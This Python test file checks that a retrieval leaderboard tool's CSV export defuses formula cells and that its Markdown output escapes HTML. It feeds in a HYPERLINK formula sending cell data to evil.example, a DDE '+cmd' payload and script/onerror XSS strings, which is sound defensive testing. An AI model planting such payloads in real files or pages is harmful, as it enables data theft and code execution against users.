"""CSV and Markdown exports: formula-looking cells are made inert, HTML in names is escaped."""

from __future__ import annotations

import csv
import io

import numpy as np
from reporting_helpers import run

from r2med.reporting.board import format_leaderboard
from r2med.reporting.leaderboard import Row
from r2med.reporting.tables import csv_cell, markdown_table
from r2med.store.results import SystemPath, write_result
from r2med.types import Run, Scores

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _rows():
    return [
        Row(system=EVIL, name=EVIL, source="+cmd|' /C calc'!A0", values={"Biology": 0.5}),
        Row(system="@SUM(1+1)", name="-2+3", source="\tx", values={"Biology": 0.25}),
        Row(system="-0.5", name="\r=1", source="-1e3", values={"Biology": 0.125}),
    ]


def test_csv_cells_that_start_a_formula_are_made_inert():
    text = format_leaderboard(_rows(), "csv")
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table[0][:5] == ["rank", "system", "path", "source", "Biology"]
    assert table[1][:5] == ["1", "'" + EVIL, "'" + EVIL, "'+cmd|' /C calc'!A0", "50.00"]
    assert table[2][:5] == ["2", "'-2+3", "'@SUM(1+1)", "'\tx", "25.00"]
    # real numbers stay numbers, even with a sign: -0.5 and -1e3 are values, not formulas
    assert table[3][:5] == ["3", "'\r=1", "-0.5", "-1e3", "12.50"]
    # no cell of the file starts with a formula character unless it is a number
    for row in table:
        for cell in row:
            assert not cell[:1] in ("=", "+", "@", "\t", "\r") and (not cell.startswith("-") or float(cell) < 0)


def test_csv_cell_rule():
    assert [csv_cell(v) for v in ("=1+2", "+1", "-1", "-0.5", "+.5e-3", "-", "--1", "@x", "-inf", "nan", "a=b", 3, -2.5)] == [
        "'=1+2", "+1", "-1", "-0.5", "+.5e-3", "'-", "'--1", "'@x", "'-inf", "nan", "a=b", 3, -2.5]


def test_markdown_escapes_html_and_pipes_in_names():
    rows = [Row(system="gar/<script>alert(1)</script>", name="<img src=x onerror=alert(1)>", source="a|b & c",
                values={"Biology": 0.5})]
    md = format_leaderboard(rows, "md")
    assert "<script>" not in md and "<img" not in md
    line = next(x for x in md.splitlines() if "alert" in x)
    assert "gar/&lt;script&gt;alert(1)&lt;/script&gt;" in line and "&lt;img src=x onerror=alert(1)&gt;" in line
    assert "a\\|b &amp; c" in line
    # the pipe inside a name no longer makes a column: the row has as many cells as the header
    header = md.splitlines()[0]
    assert line.replace("\\|", "").count("|") == header.count("|")
    assert markdown_table(["a|b"], [["x|y"]]).splitlines() == ["| a\\|b |", "|------|", "| x\\|y |"]


def test_compare_markdown_escapes_html_in_system_labels(tmp_path):
    rng = np.random.default_rng(3)
    for system in ("<script>a", "b"):  # a system name is a folder name: no "/" (r2med.io.names)
        values = {f"q{i}": float(v) for i, v in enumerate(rng.uniform(0, 1, 5))}
        scores = Scores({"ndcg_at_10": float(np.mean(list(values.values())))}, {q: {"ndcg_at_10": v} for q, v in values.items()})
        write_result(tmp_path, SystemPath.base(system), "Biology", scores, Run({q: {"d1": 1.0} for q in values}), seconds=1.0)
    result = run("compare", "<script>a", "b", "--results", tmp_path / "base retriever", "--n-resamples", 50)
    assert result.code == 0, result.err
    assert "<script>" not in result.out and "A = " in result.out and "&lt;script&gt;a" in result.out
